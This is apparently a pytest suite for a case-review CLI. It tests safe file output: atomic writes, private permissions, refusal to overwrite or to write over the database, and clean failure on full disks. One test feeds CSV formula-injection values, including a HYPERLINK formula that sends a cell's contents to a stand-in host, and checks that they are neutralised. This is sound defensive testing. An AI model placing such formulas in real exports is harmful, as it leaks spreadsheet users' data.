"""Recorded only when it happened (docs/architecture.md#files-the-engine-writes): a letter, a bundle, a
report page or a backup is written to a temporary file beside its target and renamed into place; a
letter or a bundle is recorded only then. Each fault here is real: a missing folder, a folder, a
refused permission, a full disk (`/dev/full`, and a file-size limit the kernel enforces), a commit
that fails after the file was put in place, the database file itself."""

from __future__ import annotations

import csv
import io
import os
import resource
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.databases import ON_POSTGRES, sqlite_only
from tests.support.forks import spawn
from tests.support.sql import database_dump
from tests.support.waiting import HANG

ROOT = Path(__file__).resolve().parent.parent


def _one_line(result) -> str:
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.stderr
    return lines[0]


def _letters(db, case) -> list:
    return db.json("show", case)["letters"]


def _acknowledge_deadline(db, case) -> dict:
    return next(d for d in db.json("show", case)["deadlines"] if d["kind"] == "acknowledge")


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


@pytest.fixture
def appealed(db, case, snapshot):
    """The case, decided met, its outcome issued and appealed: it can have every letter and a bundle."""

    def build() -> None:
        db("decide", case, "--met", "--on", "2026-03-05")
        db("assign", case, "--lead", "cbc", "--reviewer", "Sam Reviewer", "--on", "2026-03-06")
        db("meeting", case, "--at", "2026-03-20T10:00", "--held", "--on", "2026-03-20")
        db("finding", case, "--category", "risk", "--on", "2026-03-20")
        db("outcome", case, "--no-recommendations", "The agencies acted well", "--on", "2026-03-23")
        db("appeal", case, "--received", "2026-03-30", "--grounds", "process")

    snapshot("outputs-appealed", build)
    return case


# -- a path that cannot be written: one clear line, nothing recorded -------------------------------------

BAD_TARGETS = {
    "missing folder": ("{tmp}/no/such/folder/letter.html", "does not exist"),
    "a folder": ("{tmp}", "is a folder"),
    "full disk": ("/dev/full", "No space left on device"),
    "permission denied": ("/sys/letter.html", "Permission denied"),
}


@pytest.mark.parametrize("fault", BAD_TARGETS)
def test_a_letter_that_cannot_be_written_is_not_recorded(db, case, tmp_path, fault):
    path, words = BAD_TARGETS[fault]
    before = database_dump()
    result = db.fails(
        "letter", case, "acknowledgement", "-o", path.format(tmp=tmp_path), "--on", "2026-03-03"
    )
    line = _one_line(result)
    assert words in line, line
    assert database_dump() == before
    assert _letters(db, case) == [] and _acknowledge_deadline(db, case)["met_on"] is None
    assert _leftovers(tmp_path) == []


@pytest.mark.parametrize("fault", ["missing folder", "full disk", "permission denied"])
def test_a_bundle_that_cannot_be_written_is_not_recorded(db, appealed, tmp_path, fault):
    path, words = BAD_TARGETS[fault]
    path = path.format(tmp=tmp_path).replace("letter.html", "bundle.zip")
    before = database_dump()
    line = _one_line(db.fails("bundle", appealed, "-o", path, "--on", "2026-03-31"))
    assert words in line, line
    assert database_dump() == before
    assert not any(lt["kind"] == "appeal_bundle" for lt in _letters(db, appealed))


def test_a_letter_to_standard_output_that_is_full_is_not_recorded(db, case):
    """`trigger letter ... > /dev/full`: the real command line, its standard output a full disk."""
    with open("/dev/full", "wb") as full:
        proc = spawn(
            ["cli.py", "letter", case, "acknowledgement", "--on", "2026-03-03"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
        )
        _, err = proc.communicate(timeout=HANG)
    assert proc.returncode == 1
    assert err == (
        "Error: cannot write to standard output: No space left on device; the letter was not recorded\n"
    )
    assert db.json("show", case)["letters"] == []  # read back in this process: what was recorded


def _run_with_file_size_limit(limit: int, *args: str) -> subprocess.CompletedProcess:
    """The real command line with the kernel refusing to grow any file past `limit` bytes (a disk
    that fills up part-way: writes fail with EFBIG, as they would with ENOSPC)."""

    def limited():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # an error from write(), not a killed process
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "cli.py", *args],
        cwd=ROOT,
        env=dict(os.environ),
        capture_output=True,
        text=True,
        timeout=HANG,
        preexec_fn=limited,
    )


def test_a_disk_that_fills_while_the_letter_is_written_leaves_no_file_and_no_record(db, case, tmp_path):
    size = len(db("letter", case, "acknowledgement", "--preview", "--on", "2026-03-03").stdout.encode())
    before = database_dump()
    target = tmp_path / "letter.html"
    proc = _run_with_file_size_limit(size // 2, "letter", case, "acknowledgement", "-o", str(target))
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith("Error: cannot write") and "File too large" in proc.stderr, proc.stderr
    assert proc.stderr.count("\n") == 1 and "not recorded" in proc.stderr
    assert not target.exists() and _leftovers(tmp_path) == []
    assert database_dump() == before


@sqlite_only
def test_a_commit_that_fails_after_the_file_was_put_in_place_takes_the_file_away(db, case, tmp_path):
    """The letter fits on the disk but the database's commit does not: the file is removed again."""
    import sqlite3

    size = len(db("letter", case, "acknowledgement", "--preview", "--on", "2026-03-03").stdout.encode())
    before = database_dump()
    holder = sqlite3.connect(os.environ["TRIGGER_DB"][len("sqlite:///") :])  # keeps the WAL and -shm open
    holder.execute("SELECT count(*) FROM review_case").fetchone()
    try:
        target = tmp_path / "letter.html"
        proc = _run_with_file_size_limit(size + 16, "letter", case, "acknowledgement", "-o", str(target))
    finally:
        holder.close()
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith("Error: the database could not store the change"), proc.stderr
    assert proc.stderr.count("\n") == 1 and "nothing was saved" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not target.exists() and _leftovers(tmp_path) == []
    assert database_dump() == before


def test_a_letter_written_is_recorded_private_and_never_overwritten_without_force(db, case, tmp_path):
    target = tmp_path / "ack.html"
    db("letter", case, "acknowledgement", "-o", target, "--on", "2026-03-03")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert len(_letters(db, case)) == 1 and _acknowledge_deadline(db, case)["met_on"] == "2026-03-03"
    first = target.read_bytes()
    before = database_dump()
    line = _one_line(db.fails("letter", case, "acknowledgement", "-o", target, "--on", "2026-03-04"))
    assert "already exists; give --force" in line
    assert database_dump() == before and target.read_bytes() == first
    db("letter", case, "acknowledgement", "-o", target, "--on", "2026-03-04", "--force")
    assert len(_letters(db, case)) == 2 and b"4 March 2026" in target.read_bytes()
    assert stat.S_IMODE(target.stat().st_mode) == 0o600 and _leftovers(tmp_path) == []


def test_every_file_written_is_private_and_refuses_to_overwrite(db, appealed, tmp_path):
    outputs = {
        "bundle.zip": ("bundle", appealed, "-o", "{f}", "--on", "2026-03-31"),
        "preview.html": ("letter", appealed, "acknowledgement", "--preview", "-o", "{f}"),
        "report.html": ("report", "annual", "--year", "2025", "--html", "{f}"),
        "letter.pdf": ("letter", appealed, "acknowledgement", "--format", "pdf", "-o", "{f}"),
    }
    if not ON_POSTGRES:
        outputs["backup.db"] = ("backup", "{f}")
    for name, args in outputs.items():
        target = tmp_path / name
        db(*[a.replace("{f}", str(target)) for a in args])
        assert stat.S_IMODE(target.stat().st_mode) == 0o600, name
        first = target.read_bytes()
        line = _one_line(db.fails(*[a.replace("{f}", str(target)) for a in args]))
        assert "already exists; give --force" in line, (name, line)
        assert target.read_bytes() == first
        db(*[a.replace("{f}", str(target)) for a in args], "--force")
    assert _leftovers(tmp_path) == []


# -- never over the database ------------------------------------------------------------------------------


@sqlite_only
def test_no_output_ever_goes_to_the_database_its_wal_or_its_journal(db, appealed, tmp_path):
    live = Path(os.environ["TRIGGER_DB"][len("sqlite:///") :])
    (tmp_path / "link.db").symlink_to(live)
    os.link(live, tmp_path / "hard.db")
    names = [
        live,
        *(Path(f"{live}{end}") for end in ("-wal", "-journal", "-shm", "-queue")),
        tmp_path / "link.db",
    ]
    names.append(tmp_path / "hard.db")
    before = database_dump()
    raw = live.read_bytes()
    for name in names:
        for args in (
            ("letter", appealed, "acknowledgement", "--preview", "-o", name, "--force"),
            ("letter", appealed, "acknowledgement", "-o", name, "--force"),
            ("report", "annual", "--year", "2025", "--html", name, "--force"),
            ("bundle", appealed, "-o", name, "--force"),
            ("backup", name, "--force"),
        ):
            line = _one_line(db.fails(*args))
            assert "is the database (or its WAL or journal)" in line, (args, line)
    assert database_dump() == before
    assert live.read_bytes()[:16] == raw[:16] == b"SQLite format 3\x00"


# -- CSV a spreadsheet will not run -----------------------------------------------------------------------


def test_csv_output_neutralises_cells_a_spreadsheet_would_run(db, case):
    db("decide", case, "--met", "--on", "2026-03-05")
    db(
        "assign",
        case,
        "--lead",
        "cbc",
        "--reviewer",
        '=HYPERLINK("http://x.example/?"&A1,"open")',
        "--on",
        "2026-03-06",
    )
    db("agency", "add", "fire", "--name", "@SUM(1+1)", "--kind", "other")
    db("agency", "add", "water", "--name", "+44 water", "--kind", "other")
    rows = list(csv.DictReader(io.StringIO(db("list", "--csv").stdout)))
    assert rows[0]["reviewer"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    names = {r["code"]: r["name"] for r in csv.DictReader(io.StringIO(db("agency", "list", "--csv").stdout))}
    assert names["fire"] == "'@SUM(1+1)" and names["water"] == "'+44 water" and names["cbc"][0].isalpha()
    hours = list(csv.DictReader(io.StringIO(db("report", "deadlines", "--csv").stdout)))
    assert all(not r["median_days_from_due"].startswith("'") for r in hours)  # numbers stay numbers


def test_a_file_named_for_another_format_is_refused_and_nothing_written(db, appealed, tmp_path):
    """`export REF -o x.txt` would put a zip under a .txt name: refused in one line, before any work."""
    for args, name, right in (
        (("export", appealed), "chronology.txt", "chronology.zip"),
        (("bundle", appealed, "--on", "2026-04-01"), "bundle.pdf", "bundle.zip"),
        (
            ("letter", appealed, "acknowledgement", "--format", "pdf", "--on", "2026-03-03"),
            "ack.docx",
            "ack.pdf",
        ),
        (("letter", appealed, "acknowledgement", "--on", "2026-03-03"), "ack.txt", "ack.html"),
    ):
        before = _letters(db, appealed)
        line = _one_line(db.fails(*args, "-o", tmp_path / name))
        assert f"-o {tmp_path / name}: this writes" in line and f"name the file {right}" in line
        assert not (tmp_path / name).exists() and _leftovers(tmp_path) == []
        assert _letters(db, appealed) == before
    db("export", appealed, "-o", tmp_path / "chronology.zip")
    assert (tmp_path / "chronology.zip").read_bytes()[:2] == b"PK"
